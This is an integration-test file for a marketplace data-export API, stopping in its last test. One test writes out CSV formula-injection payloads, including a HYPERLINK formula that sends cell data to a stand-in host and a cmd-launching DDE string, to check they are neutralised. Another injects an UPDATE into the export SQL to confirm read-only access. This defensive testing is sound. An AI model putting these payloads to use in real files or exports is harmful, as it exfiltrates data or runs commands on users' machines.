"""Exports over HTTP, in-process with aiohttp's test client, against a real Postgres
holding the sample marketplace; every answer is checked against SQL on the same data."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator, Callable
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from api import keys
from api.app import BASE, create_app
from cdc.mapping import parse_mapping
from common import sqlfile
from common.errors import ConfigError
from config.settings import Settings
from outbox import store
from sidecar import sample
from tests.conftest import MAPPING, SourceDb, make_settings, read_events
from tests.unit.test_export_values import keys_of

VOLUME = sample.Volume(customers=60, sellers=4, products=40, orders=150, reviews=80, views=300, carts=10)

Client = Callable[..., Any]


async def start(settings: Settings, mapping_text: str | None = None) -> tuple[TestClient, dict[str, str]]:
    conn = store.open_outbox(settings.outbox.path)
    export = keys.create(conn, "export", [keys.EXPORT], [])
    hooks = keys.create(conn, "hooks", [keys.WEBHOOKS], [])
    conn.close()
    mapping = parse_mapping(mapping_text) if mapping_text else None
    client = TestClient(TestServer(create_app(settings, mapping)))
    await client.start_server()
    return client, {"export": export.key, "hooks": hooks.key}


@pytest.fixture
def marketplace(source_db: SourceDb) -> SourceDb:
    with source_db.connect() as conn:
        sample.generate(conn, seed=3, volume=VOLUME)
    return source_db


@pytest.fixture
async def api(marketplace: SourceDb, tmp_path: Path) -> AsyncIterator[tuple[TestClient, Client, SourceDb]]:
    # no capture runs here: caching off, so direct SQL changes show at once
    no_cache = {"cache_ttl_customers": 0, "cache_ttl_products": 0, "cache_ttl_analytics": 0}
    settings = make_settings(marketplace, tmp_path / "outbox.db", api=no_cache)
    client, k = await start(settings)

    async def get(path: str, _status: int | None = 200, _key: str = "export", **params: Any) -> Any:
        resp = await client.get(
            f"{BASE}{path}", params={n: str(v) for n, v in params.items()}, headers={"X-API-Key": k[_key]}
        )
        body = await resp.read()
        assert resp.status == _status or (_status is None and resp.status < 500), body[:500]
        return json.loads(body) if resp.content_type == "application/json" else body

    yield client, get, marketplace
    await client.close()


async def page_all(get: Client, path: str, per_page: int = 7, **params: Any) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    cursor = None
    while True:
        extra = {"cursor": cursor} if cursor else {}
        body = await get(path, per_page=per_page, **params, **extra)
        assert body["success"] is True and len(body["data"]) <= per_page
        rows += body["data"]
        cursor = body["meta"]["next_cursor"]
        if cursor is None:
            return rows


def ids(db: SourceDb, query: str, *params: Any) -> list[int]:
    return [r[0] for r in db.execute(query, *params)]


async def test_paging_to_the_end_while_rows_are_inserted_has_no_gap_or_repeat(api):
    _, get, db = api
    before = ids(db, "SELECT id FROM users WHERE role = 'customer' ORDER BY id")
    seen: list[int] = []
    cursor = None
    inserted = 0
    while True:
        body = await get("/customers", per_page=9, **({"cursor": cursor} if cursor else {}))
        seen += [r["id"] for r in body["data"]]
        if inserted < 5:  # a new customer between every page, for the first few pages
            db.execute(
                "INSERT INTO users (name, email, password) VALUES (%s, %s, 'x')",
                "New",
                f"new{inserted}@x.test",
            )
            inserted += 1
        cursor = body["meta"]["next_cursor"]
        if cursor is None:
            break
    after = ids(db, "SELECT id FROM users WHERE role = 'customer' ORDER BY id")
    assert len(seen) == len(set(seen)) and seen == sorted(seen)
    assert set(before) <= set(seen) and seen == after


async def test_order_filters_match_sql(api):
    _, get, db = api
    assert [r["id"] for r in await page_all(get, "/orders", per_page=50)] == ids(
        db, "SELECT id FROM orders ORDER BY id"
    )
    for status in ("pending", "shipped", "delivered"):
        got = [r["id"] for r in await page_all(get, "/orders", status=status)]
        assert got == ids(db, "SELECT id FROM orders WHERE status = %s ORDER BY id", status)
    got = await page_all(get, "/orders", payment_status="paid")
    assert {r["payment_status"] for r in got} <= {"paid"}
    assert [r["id"] for r in got] == ids(
        db, "SELECT id FROM orders WHERE payment_status = 'paid' ORDER BY id"
    )
    customer = db.execute("SELECT user_id FROM orders GROUP BY user_id ORDER BY count(*) DESC LIMIT 1")[0][0]
    got = [r["id"] for r in await page_all(get, "/orders", customer_id=customer)]
    assert got and got == ids(db, "SELECT id FROM orders WHERE user_id = %s ORDER BY id", customer)
    seller = db.execute("SELECT seller_id FROM orders WHERE seller_id IS NOT NULL LIMIT 1")[0][0]
    got = [r["id"] for r in await page_all(get, "/orders", seller_id=seller)]
    assert got and got == ids(db, "SELECT id FROM orders WHERE seller_id = %s ORDER BY id", seller)
    db.execute("UPDATE orders SET created_at = '2026-01-15 10:00:00+00' WHERE id IN (1, 2)")
    db.execute("UPDATE orders SET created_at = '2026-01-16 00:00:00+00' WHERE id = 3")
    got = [r["id"] for r in await page_all(get, "/orders", date_from="2026-01-15", date_to="2026-01-15")]
    assert got == [1, 2]  # date_to is a whole day: the 16th's midnight is out
    got = [
        r["id"]
        for r in await page_all(get, "/orders", date_from="2026-01-15T10:00:00Z", date_to="2026-01-16")
    ]
    assert got == [1, 2, 3]
    order = (await get("/orders", per_page=1))["data"][0]
    assert order["created_at"].endswith("Z") and isinstance(order["total"], str)
    assert Decimal(order["total"]) == db.execute("SELECT total FROM orders WHERE id = %s", order["id"])[0][0]


async def test_product_review_and_customer_filters_match_sql(api):
    _, get, db = api
    seller = db.execute("SELECT user_id FROM shops ORDER BY id LIMIT 1")[0][0]
    got = [r["id"] for r in await page_all(get, "/products", seller_id=seller)]
    assert got == ids(
        db,
        "SELECT p.id FROM products p JOIN shops s ON s.id = p.shop_id WHERE s.user_id = %s ORDER BY p.id",
        seller,
    )
    slug = db.execute("SELECT c.slug FROM products p JOIN categories c ON c.id = p.category_id LIMIT 1")[0][0]
    got = await page_all(get, "/products", category=slug)
    assert got and {r["category"] for r in got} == {slug}
    db.execute("UPDATE products SET stock = 0, status = 'draft' WHERE id IN (1, 5)")
    drafts = [r["id"] for r in await page_all(get, "/products", status="draft")]
    assert drafts == ids(db, "SELECT id FROM products WHERE status = 'draft' ORDER BY id") and 1 in drafts
    out = [r["id"] for r in await page_all(get, "/products", in_stock="false")]
    assert out == ids(db, "SELECT id FROM products WHERE stock <= 0 ORDER BY id") and 1 in out
    db.execute("UPDATE products SET name = 'Zoë 100% wool scarf' WHERE id = 7")
    assert [r["id"] for r in await page_all(get, "/products", search="100% WOOL")] == [7]
    assert [r["id"] for r in await page_all(get, "/products", search="%")] == [7]  # literal, not a wildcard
    for rating in (1, 5):
        got = [r["id"] for r in await page_all(get, "/reviews", rating=rating)]
        assert got == ids(db, "SELECT id FROM reviews WHERE rating = %s ORDER BY id", rating)
    got = [r["id"] for r in await page_all(get, "/reviews", status="approved", per_page=100)]
    assert got == ids(db, "SELECT id FROM reviews WHERE status = 'approved' ORDER BY id")
    product = db.execute("SELECT product_id FROM reviews LIMIT 1")[0][0]
    got = [r["id"] for r in await page_all(get, "/reviews", product_id=product)]
    assert got == ids(db, "SELECT id FROM reviews WHERE product_id = %s ORDER BY id", product)
    with_orders = [r["id"] for r in await page_all(get, "/customers", has_orders="true", per_page=100)]
    assert with_orders == ids(
        db,
        "SELECT id FROM users u WHERE role = 'customer' AND EXISTS (SELECT 1 FROM orders o WHERE o.user_id = u.id)"
        " ORDER BY id",
    )
    without = [r["id"] for r in await page_all(get, "/customers", has_orders="false", per_page=100)]
    assert set(with_orders).isdisjoint(without) and len(with_orders) + len(without) == VOLUME.customers


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("/orders", {"date_from": "2026-13-01"}, "date_from"),
        ("/orders", {"date_to": "yesterday"}, "date_to"),
        ("/orders", {"date_from": "2026-02-01", "date_to": "2026-01-01"}, "date_to"),
        ("/orders", {"customer_id": "-3"}, "customer_id"),
        ("/orders", {"customer_id": str(10**30)}, "customer_id"),
        ("/orders", {"seller_id": "x"}, "seller_id"),
        ("/orders", {"status": "lost"}, "status"),
        ("/orders", {"payment_status": "maybe"}, "payment_status"),
        ("/orders", {"per_page": "501"}, "per_page"),
        ("/orders", {"per_page": "0"}, "per_page"),
        ("/orders", {"cursor": "not-a-cursor"}, "cursor"),
        ("/orders", {"format": "xml"}, "format"),
        ("/customers", {"has_orders": "perhaps"}, "has_orders"),
        ("/products", {"in_stock": "2"}, "in_stock"),
        ("/products", {"status": "sold"}, "status"),
        ("/reviews", {"rating": "6"}, "rating"),
        ("/reviews", {"user_id": "0"}, "user_id"),
        ("/analytics", {"date_from": "1/2/2026"}, "date_from"),
        ("/orders/-1", {}, "id"),
        ("/customers/abc", {}, "id"),
        ("/customers/²", {}, "id"),
        ("/products/9223372036854775808", {}, "id"),  # past 2**63 - 1
        ("/products/+1", {}, "id"),
    ],
)
async def test_bad_filters_answer_422_naming_the_field(api, path, params, field):
    _, get, _ = api
    body = await get(path, _status=422, **params)
    assert body["success"] is False and body["error"]["field"] == field


async def test_unknown_ids_answer_404_and_keys_need_the_export_permission(api):
    client, get, _ = api
    for path in ("/customers/999999", "/orders/999999", "/products/999999"):
        assert (await get(path, _status=404))["error"]["code"] == "not_found"
    assert (await get("/orders", _status=403, _key="hooks"))["error"]["code"] == "forbidden"
    resp = await client.get(f"{BASE}/customers")
    assert resp.status == 401


async def test_detail_views_carry_their_related_data(api):
    _, get, db = api
    customer = db.execute(
        "SELECT user_id FROM orders WHERE status NOT IN ('cancelled', 'refunded') GROUP BY user_id LIMIT 1"
    )[0][0]
    data = (await get(f"/customers/{customer}"))["data"]
    spent, count = db.execute(
        "SELECT sum(total) FILTER (WHERE status NOT IN ('cancelled', 'refunded')), count(*) FROM orders"
        " WHERE user_id = %s",
        customer,
    )[0]
    assert data["statistics"]["orders_count"] == count and data["statistics"]["total_spent"] == str(spent)
    assert data["statistics"]["first_order_at"].endswith("Z")
    assert [a["id"] for a in data["addresses"]] == ids(
        db, "SELECT id FROM addresses WHERE user_id = %s", customer
    )
    assert "password" not in data and "remember_token" not in data

    order_id = db.execute("SELECT order_id FROM order_items GROUP BY order_id LIMIT 1")[0][0]
    order = (await get(f"/orders/{order_id}"))["data"]
    assert [i["id"] for i in order["items"]] == ids(
        db, "SELECT id FROM order_items WHERE order_id = %s ORDER BY id", order_id
    )
    assert order["items"][0]["product_name"]
    assert order["customer"]["id"] == order["user_id"] and "password" not in order["customer"]
    assert order["shop"]["id"] == order["shop_id"]
    assert (
        order["payment"]["total"] == order["total"] and order["payment"]["status"] == order["payment_status"]
    )
    assert set(order["shipping"]) == {"address", "carrier", "tracking_number"}

    product_id = db.execute("SELECT product_id FROM reviews WHERE status = 'approved' LIMIT 1")[0][0]
    db.execute("UPDATE products SET stock = 3 WHERE id = %s", product_id)
    product = (await get(f"/products/{product_id}"))["data"]
    dist = product["rating"]["distribution"]
    assert set(dist) == {"1", "2", "3", "4", "5"} and sum(dist.values()) == product["rating"]["count"] > 0
    avg = db.execute(
        "SELECT round(avg(rating), 2) FROM reviews WHERE product_id = %s AND status = 'approved'", product_id
    )[0][0]
    assert product["rating"]["average"] == str(avg)
    assert product["stock_status"] == "low_stock" and product["shop"]["seller"]["id"]
    assert set(product["seo"]) == {"slug", "meta_title", "meta_description", "meta_keywords"}


async def test_analytics_figures_match_sql_and_compare_with_the_previous_period(api):
    _, get, db = api
    db.execute("UPDATE orders SET created_at = '2026-03-10 12:00:00+00' WHERE id <= 20")
    db.execute("UPDATE orders SET created_at = '2026-02-20 12:00:00+00' WHERE id > 20 AND id <= 30")
    data = (await get("/analytics", date_from="2026-03-01", date_to="2026-03-31"))["data"]
    gmv, n = db.execute(
        "SELECT sum(total) FILTER (WHERE status NOT IN ('cancelled', 'refunded')), count(*) FROM orders"
        " WHERE created_at >= '2026-03-01' AND created_at < '2026-04-01'"
    )[0]
    assert data["orders"] == n == 20 and data["gmv"] == str(gmv)
    assert data["previous_period"]["orders"] == 10
    assert data["growth"]["orders"] == 100.0
    assert len(data["top_products"]) <= 10 and set(data["rating_distribution"]) == {"1", "2", "3", "4", "5"}
    assert data["period"] == {
        "date_from": "2026-03-01T00:00:00.000000Z",
        "date_to": "2026-04-01T00:00:00.000000Z",
    }


async def test_ndjson_and_csv_stream_the_whole_export(api):
    _, get, db = api
    body = await get("/orders", format="ndjson")
    rows = [json.loads(line) for line in body.decode().splitlines()]
    assert [r["id"] for r in rows] == ids(db, "SELECT id FROM orders ORDER BY id")
    body = await get("/customers", format="csv")
    table = list(csv.reader(io.StringIO(body.decode())))
    assert table[0][:3] == ["id", "name", "email"] and "password" not in table[0]
    assert [int(r[0]) for r in table[1:]] == ids(
        db, "SELECT id FROM users WHERE role = 'customer' ORDER BY id"
    )
    body = await get("/orders", format="ndjson", status="shipped")
    assert {json.loads(line)["status"] for line in body.decode().splitlines()} <= {"shipped"}


async def test_excluded_columns_never_appear_in_any_export(marketplace, tmp_path):
    extra = (
        Path(MAPPING)
        .read_text()
        .replace(
            'exclude_columns = ["password", "remember_token"]',
            'exclude_columns = ["password", "remember_token", "email", "tracking_number"]',
        )
    )
    settings = make_settings(marketplace, tmp_path / "outbox.db")
    client, k = await start(settings, extra)
    try:
        oid = marketplace.execute("SELECT max(order_id) FROM order_items")[0][0]
        paths = [
            "/customers",
            "/orders",
            "/products",
            "/reviews",
            "/analytics",
            "/customers/11",
            f"/orders/{oid}",
        ]
        for path in paths:
            for fmt in ("json", "ndjson", "csv"):
                if fmt != "json" and ("/" in path[1:] or path == "/analytics"):
                    continue
                resp = await client.get(
                    f"{BASE}{path}", params={"format": fmt}, headers={"X-API-Key": k["export"]}
                )
                text = await resp.text()
                assert resp.status == 200, text
                if fmt == "csv":
                    names = set(next(csv.reader(io.StringIO(text))))
                else:
                    names = set().union(*(keys_of(json.loads(line)) for line in text.splitlines()))
                assert names and not names & {"password", "remember_token", "email", "tracking_number"}, (
                    path,
                    fmt,
                )
    finally:
        await client.close()


async def test_exports_are_read_only_and_time_out(marketplace, tmp_path):
    sql_dir = tmp_path / "sql"
    sql_dir.mkdir()
    text = (Path(__file__).resolve().parents[2] / "api" / "sql" / "exports.sql").read_text()
    blocks = sqlfile.parse_blocks(text)
    blocks["customers"] = "UPDATE users SET name = 'pwned' WHERE id > %(after)s RETURNING id, %(limit)s"
    blocks["orders"] = "SELECT pg_sleep(5), %(after)s::bigint AS id, %(limit)s"
    text = "".join(f"-- name: {name}\n{body}\n\n" for name, body in blocks.items())
    (sql_dir / "exports.sql").write_text(text)
    settings = make_settings(
        marketplace, tmp_path / "outbox.db", api={"sql_dir": str(sql_dir), "statement_timeout_ms": 300}
    )
    client, k = await start(settings)
    try:
        resp = await client.get(f"{BASE}/customers", headers={"X-API-Key": k["export"]})
        body = await resp.json()
        assert resp.status == 503 and body["error"]["code"] == "export_failed"
        assert "read-only" in body["error"]["message"]
        assert marketplace.execute("SELECT count(*) FROM users WHERE name = 'pwned'")[0][0] == 0
        resp = await client.get(f"{BASE}/orders", headers={"X-API-Key": k["export"]})
        body = await resp.json()
        assert resp.status == 503 and body["error"]["code"] == "export_timeout"
    finally:
        await client.close()


async def test_unreachable_marketplace_answers_503_not_a_stack_trace(tmp_path):
    settings = Settings(
        outbox={"path": str(tmp_path / "o.db")},
        source={"dsn": "host=127.0.0.1 port=1 dbname=x connect_timeout=1"},
        api={"pool_timeout_seconds": 1},
    )
    client, k = await start(settings)
    try:
        resp = await client.get(f"{BASE}/orders", headers={"X-API-Key": k["export"]})
        body = await resp.json()
        assert resp.status == 503 and body["error"]["code"] == "source_unavailable"
    finally:
        await client.close()


def test_a_replaced_sql_file_missing_a_block_fails_at_start_naming_it(tmp_path):
    (tmp_path / "exports.sql").write_text("-- name: customers\nSELECT 1\n")
    settings = Settings(outbox={"path": str(tmp_path / "o.db")}, api={"sql_dir": str(tmp_path)})
    with pytest.raises(ConfigError, match="lacks the SQL block 'orders'"):
        create_app(settings)
    with pytest.raises(ConfigError, match="cannot read"):
        create_app(Settings(outbox={"path": str(tmp_path / "o.db")}, api={"sql_dir": str(tmp_path / "nope")}))


async def test_readyz_checks_source_slot_and_outbox_and_metrics_expose_them(api):
    client, get, db = api
    resp = await client.get("/readyz")
    body = await resp.json()
    assert resp.status == 503 and body["status"] == "not_ready"
    assert body["checks"]["source"]["ok"] is True and body["checks"]["outbox"]["ok"] is True
    assert "not found" in body["checks"]["slot"]["error"]
    db.execute("SELECT pg_create_logical_replication_slot(%s, 'test_decoding')", db.slot)
    resp = await client.get("/readyz")
    body = await resp.json()
    assert resp.status == 200 and body["status"] == "ready", body
    assert body["checks"]["slot"]["lag_bytes"] >= 0
    await get("/orders", per_page=1)
    await get("/orders", _status=422, per_page=0)
    resp = await client.get("/metrics")
    text = await resp.text()
    assert resp.status == 200 and resp.content_type == "text/plain"
    assert f'ct1_cdc_api_requests_total{{route="{BASE}/orders",status="200"}}' in text
    assert f'ct1_cdc_api_requests_total{{route="{BASE}/orders",status="422"}}' in text
    assert "ct1_cdc_capture_lag_bytes " in text and "ct1_cdc_last_event_id 0.0" in text
    assert "ct1_cdc_mapping_problems 0.0" in text


async def test_a_rule_broken_by_ddl_shows_on_readyz_and_in_metrics(api, tmp_path):
    """What capture stores when DDL breaks a rule: /readyz says degraded (still 200: the API
    and every other rule work) with the problem and its fix; the metric counts it."""
    from outbox import source_state

    client, _get, db = api
    db.execute("SELECT pg_create_logical_replication_slot(%s, 'test_decoding')", db.slot)
    problem = {
        "kind": "missing_column",
        "table": "public.orders",
        "rule": 3,
        "message": "rule 3 (order.status_changed): when_changed column 'status' does not exist in public.orders",
        "fix": "correct when_changed in rule 3 of the mapping",
    }
    conn = store.open_outbox(tmp_path / "outbox.db")
    source_state.set_problems(conn, [problem])
    resp = await client.get("/readyz")
    body = await resp.json()
    assert resp.status == 200 and body["status"] == "degraded"
    assert body["checks"]["mapping"]["ok"] is False
    assert [{k: p[k] for k in problem} for p in body["checks"]["mapping"]["problems"]] == [problem]
    assert "ct1_cdc_mapping_problems 1.0" in await (await client.get("/metrics")).text()
    source_state.set_problems(conn, [])
    conn.close()
    body = await (await client.get("/readyz")).json()
    assert body["status"] == "ready" and body["checks"]["mapping"] == {"ok": True, "problems": []}


async def test_cached_answers_are_dropped_as_soon_as_capture_commits_a_change(
    marketplace, tmp_path, run_capture
):
    settings = make_settings(marketplace, tmp_path / "outbox.db")
    capture = run_capture(settings)
    capture.wait_caught_up()
    client, k = await start(settings)
    auth = {"X-API-Key": k["export"]}

    async def fetch(path: str) -> tuple[str, Any]:
        resp = await client.get(f"{BASE}{path}", headers=auth)
        assert resp.status == 200
        return resp.headers["X-Cache"], (await resp.json())["data"]

    try:
        assert (await fetch("/customers/11"))[0] == "miss"
        state, data = await fetch("/customers/11")
        assert state == "hit" and data["name"] != "Renamed Customer"
        product_state, _ = await fetch("/products/3")
        assert product_state == "miss" and (await fetch("/products/3"))[0] == "hit"
        marketplace.execute("UPDATE users SET name = 'Renamed Customer' WHERE id = 11")
        capture.wait_caught_up()
        state, data = await fetch("/customers/11")
        assert state == "miss" and data["name"] == "Renamed Customer"  # never staler than the outbox
        assert (await fetch("/products/3"))[0] == "miss"  # it shows the seller's name, from users
        assert (await fetch("/products/3"))[0] == "hit"
        assert (await fetch("/analytics"))[0] == "miss"
        marketplace.execute("UPDATE products SET stock = stock + 1 WHERE id = 3")
        capture.wait_caught_up()
        # the default mapping captures no products table changes: only the TTL ends this entry
        assert (await fetch("/products/3"))[0] == "hit"
        marketplace.execute("INSERT INTO reviews (product_id, user_id, rating) VALUES (3, 11, 5)")
        capture.wait_caught_up()
        assert (await fetch("/products/3"))[0] == "miss"  # review.created: the rating may have moved
        assert (await fetch("/analytics"))[0] == "miss"
        assert (await fetch("/customers/11"))[0] == "hit"  # customers read no reviews
    finally:
        await client.close()


async def test_customer_and_review_date_filters_match_sql(api):
    _, get, db = api
    db.execute("UPDATE users SET created_at = '2026-02-10 08:00:00+00' WHERE id IN (11, 12)")
    db.execute("UPDATE reviews SET created_at = '2026-02-11 23:59:59+00' WHERE id IN (2, 3)")
    db.execute("UPDATE reviews SET created_at = '2026-02-12 00:00:00+00' WHERE id = 4")
    got = [r["id"] for r in await page_all(get, "/customers", date_from="2026-02-10", date_to="2026-02-10")]
    assert got == [11, 12]
    got = [r["id"] for r in await page_all(get, "/reviews", date_from="2026-02-11", date_to="2026-02-11")]
    assert got == [2, 3]
    got = [r["id"] for r in await page_all(get, "/reviews", date_from="2026-02-11T12:00:00Z")]
    assert got == ids(db, "SELECT id FROM reviews WHERE created_at >= '2026-02-11 12:00:00+00' ORDER BY id")


async def test_a_jsonb_integer_past_64_bits_exports_exactly_in_every_format(api):
    """An order whose jsonb holds 12345678901234567890123 answered 500 (orjson refuses it)."""
    _, get, db = api
    big = 12345678901234567890123
    (order,) = db.execute("SELECT min(id) FROM orders")[0]
    db.execute(
        "UPDATE orders SET shipping_address = %s::jsonb WHERE id = %s", json.dumps({"big": big}), order
    )
    detail = await get(f"/orders/{order}")
    assert detail["data"]["shipping_address"] == {"big": big}  # json.loads keeps big integers
    body = await get("/orders", format="ndjson")
    rows = {r["id"]: r for r in map(json.loads, body.decode().splitlines())}
    assert rows[order]["shipping_address"] == {"big": big}
    page = await get("/orders", per_page=500)
    assert {r["id"]: r for r in page["data"]}[order]["shipping_address"] == {"big": big}
    body = await get("/orders", format="csv")
    table = list(csv.reader(io.StringIO(body.decode())))
    column = table[0].index("shipping_address")
    (cell,) = [r[column] for r in table[1:] if int(r[0]) == order]
    assert json.loads(cell) == {"big": big}


async def test_customer_detail_has_its_order_history_within_date_from_and_date_to(api):
    """date_from/date_to, which the design lists for /customers/{id}, were ignored: the
    statistics counted every order whatever the period."""
    _, get, db = api
    customer = db.execute("SELECT user_id FROM orders GROUP BY user_id HAVING count(*) >= 3 LIMIT 1")[0][0]
    mine = ids(db, "SELECT id FROM orders WHERE user_id = %s ORDER BY id", customer)
    db.execute("UPDATE orders SET created_at = '2026-01-05 10:00:00+00' WHERE id = %s", mine[0])
    db.execute("UPDATE orders SET created_at = '2026-01-06 23:59:59+00' WHERE id = %s", mine[1])
    db.execute("UPDATE orders SET created_at = '2026-01-07 00:00:00+00' WHERE id = ANY(%s)", mine[2:])
    data = (await get(f"/customers/{customer}", date_from="2026-01-05", date_to="2026-01-06"))["data"]
    assert data["statistics"]["orders_count"] == 2
    assert [o["id"] for o in data["order_history"]] == [mine[1], mine[0]]  # newest first
    assert data["statistics"]["last_order_at"] == "2026-01-06T23:59:59.000000Z"
    assert set(data["order_history"][0]) == {
        "id",
        "order_number",
        "status",
        "payment_status",
        "total",
        "currency",
        "created_at",
    }
    assert data["period"] == {
        "date_from": "2026-01-05T00:00:00.000000Z",
        "date_to": "2026-01-07T00:00:00.000000Z",
    }
    everything = (await get(f"/customers/{customer}"))["data"]
    assert [o["id"] for o in everything["order_history"]] == ids(
        db, "SELECT id FROM orders WHERE user_id = %s ORDER BY created_at DESC, id DESC", customer
    )
    assert everything["statistics"]["orders_count"] == len(mine)
    assert everything["period"] == {"date_from": None, "date_to": None}
    bounded = (await get(f"/customers/{customer}", per_page=2))["data"]
    assert [o["id"] for o in bounded["order_history"]] == [o["id"] for o in everything["order_history"][:2]]
    assert bounded["statistics"]["orders_count"] == len(mine)  # statistics cover the period, not the page
    body = await get(f"/customers/{customer}", _status=422, date_from="2026-02-01", date_to="2026-01-01")
    assert body["error"]["field"] == "date_to"


async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(api):
    """A customer named =HYPERLINK(...) came out raw in format=csv: opened in a spreadsheet,
    the cell runs.  Text starting with = + - @ tab or CR gets a leading quote; numbers stay."""
    _, get, db = api
    hostile = {
        11: '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
        12: "+1+cmd|' /C calc'!A0",
        13: "-2+3",
        14: "@SUM(A1:A9)",
        15: "\t=1+1",
        16: "\r=1+1",
    }
    for user, name in hostile.items():
        db.execute("UPDATE users SET name = %s WHERE id = %s", name, user)
    db.execute("UPDATE users SET phone = '-5.00' WHERE id = 17")  # a number: left alone
    db.execute("UPDATE orders SET discount_total = -5.00 WHERE id = 1")
    table = list(csv.reader(io.StringIO((await get("/customers", format="csv")).decode())))
    by_id = {int(r[0]): dict(zip(table[0], r, strict=True)) for r in table[1:]}
    for user, name in hostile.items():
        assert by_id[user]["name"] == "'" + name
    assert by_id[17]["phone"] == "-5.00"
    assert by_id[18]["name"] == db.execute("SELECT name FROM users WHERE id = 18")[0][0]
    orders = list(csv.reader(io.StringIO((await get("/orders", format="csv")).decode())))
    (first,) = [dict(zip(orders[0], r, strict=True)) for r in orders[1:] if r[0] == "1"]
    assert first["discount_total"] == "-5.00"
    assert first["created_at"][0].isdigit()
    rows = [json.loads(line) for line in (await get("/customers", format="ndjson")).decode().splitlines()]
    assert {r["id"]: r["name"] for r in rows}[11] == hostile[11]  # JSON is not a spreadsheet


async def test_order_detail_has_its_status_history_from_the_captured_events(
    marketplace, tmp_path, run_capture
):
    """Each status change capture saw, with its time and the status before it: what no
    polling export can give.  Read from the outbox, not the marketplace."""
    settings = make_settings(marketplace, tmp_path / "outbox.db")
    capture = run_capture(settings)
    capture.wait_caught_up()
    client, k = await start(settings)
    auth = {"X-API-Key": k["export"]}

    async def order(order_id: int) -> dict[str, Any]:
        resp = await client.get(f"{BASE}/orders/{order_id}", headers=auth)
        assert resp.status == 200
        data: dict[str, Any] = (await resp.json())["data"]
        return data

    try:
        target, other, quiet = (
            r[0]
            for r in marketplace.execute("SELECT id FROM orders WHERE status = 'pending' ORDER BY id LIMIT 3")
        )
        assert (await order(target))["status_history"] == []
        marketplace.execute("UPDATE orders SET status = 'processing' WHERE id = %s", target)
        marketplace.execute("UPDATE orders SET payment_status = 'paid' WHERE id = %s", target)  # not a status
        marketplace.execute("UPDATE orders SET status = 'cancelled' WHERE id = %s", other)
        marketplace.execute("UPDATE orders SET status = 'shipped' WHERE id = %s", target)
        capture.wait_caught_up()
        history = (await order(target))["status_history"]
        assert [(h["previous_status"], h["status"]) for h in history] == [
            ("pending", "processing"),
            ("processing", "shipped"),
        ]
        changes = [
            e
            for e in read_events(settings.outbox.path)
            if e["type"] == "order.status_changed" and e["data"]["id"] == target
        ]
        assert [h["event_id"] for h in history] == [e["id"] for e in changes]
        assert [h["changed_at"] for h in history] == [e["timestamp"] for e in changes]
        assert history[0]["changed_at"].endswith("Z") and history[0]["changed_at"] <= history[1]["changed_at"]
        assert [h["status"] for h in (await order(other))["status_history"]] == ["cancelled"]
        assert (await order(quiet))["status_history"] == []
    finally:
        await client.close()


async def test_product_detail_has_its_performance_over_a_period(api):
    _, get, db = api
    product = db.execute(
        "SELECT product_id FROM order_items GROUP BY product_id HAVING count(*) >= 3 LIMIT 1"
    )[0][0]
    orders = ids(db, "SELECT order_id FROM order_items WHERE product_id = %s ORDER BY order_id", product)
    db.execute(
        "UPDATE orders SET created_at = '2020-04-10 12:00:00+00', status = 'delivered' WHERE id = ANY(%s)",
        orders,
    )
    db.execute("UPDATE orders SET status = 'cancelled' WHERE id = %s", orders[0])  # not a sale
    db.execute("UPDATE orders SET created_at = '2020-05-01 00:00:00+00' WHERE id = %s", orders[1])  # after
    db.execute("UPDATE product_views SET viewed_at = '2020-01-01 00:00:00+00' WHERE product_id = %s", product)
    db.execute(
        "INSERT INTO product_views (product_id, viewed_at)"
        " SELECT %s, ('2020-04-0' || n || ' 09:00:00+00')::timestamptz FROM generate_series(1, 8) n",
        product,
    )
    sold = orders[2:]
    units, revenue = db.execute(
        "SELECT sum(quantity), sum(total) FROM order_items WHERE product_id = %s AND order_id = ANY(%s)",
        product,
        sold,
    )[0]
    data = (await get(f"/products/{product}", date_from="2020-04-01", date_to="2020-04-30"))["data"]
    assert data["performance"] == {
        "period": {"date_from": "2020-04-01T00:00:00.000000Z", "date_to": "2020-05-01T00:00:00.000000Z"},
        "views": 8,
        "orders": len(sold),
        "units_sold": units,
        "revenue": str(revenue),
        "conversion_rate": round(len(sold) / 8, 4),
    }
    assert data["rating"]["count"] >= 0 and "distribution" in data["rating"]  # alongside, unchanged
    recent = (await get(f"/products/{product}"))["data"]["performance"]  # default: the last 30 days
    assert recent["views"] == 0 and recent["orders"] == 0 and recent["revenue"] == "0.00"
    assert recent["conversion_rate"] is None
    assert recent["period"]["date_to"] > "2020-05-01"
    body = await get(f"/products/{product}", _status=422, date_from="9000-01-01")
    assert body["error"]["field"] == "date_from"  # after the default end: a backwards period


async def test_reviews_carry_their_product_shop_and_helpful_votes(api):
    _, get, db = api
    assert db.execute("SELECT count(*) FROM review_votes")[0][0] > 0  # the sample has votes
    db.execute("DELETE FROM review_votes WHERE review_id IN (2, 3)")
    voters = ids(db, "SELECT id FROM users WHERE role = 'customer' ORDER BY id LIMIT 4")
    for voter, helpful in zip(voters, (True, True, True, False), strict=True):
        db.execute(
            "INSERT INTO review_votes (review_id, user_id, helpful) VALUES (2, %s, %s)", voter, helpful
        )
    rows = {r["id"]: r for r in await page_all(get, "/reviews", per_page=30)}
    assert list(rows) == ids(db, "SELECT id FROM reviews ORDER BY id")  # keyset paging unchanged
    assert (rows[2]["helpful_votes"], rows[2]["not_helpful_votes"]) == (3, 1)
    assert (rows[3]["helpful_votes"], rows[3]["not_helpful_votes"]) == (0, 0)
    expected = db.execute(
        "SELECT r.id, p.name, p.slug, s.id, s.name, s.slug,"
        " (SELECT count(*) FROM review_votes v WHERE v.review_id = r.id AND v.helpful),"
        " (SELECT count(*) FROM review_votes v WHERE v.review_id = r.id AND NOT v.helpful)"
        " FROM reviews r JOIN products p ON p.id = r.product_id JOIN shops s ON s.id = p.shop_id ORDER BY r.id"
    )
    got = [
        tuple(
            rows[e[0]][c]
            for c in (
                "id",
                "product_name",
                "product_slug",
                "shop_id",
                "shop_name",
                "shop_slug",
                "helpful_votes",
                "not_helpful_votes",
            )
        )
        for e in expected
    ]
    assert got == [tuple(e) for e in expected]
    product = rows[2]["product_id"]
    filtered = await page_all(get, "/reviews", product_id=product, rating=rows[2]["rating"])
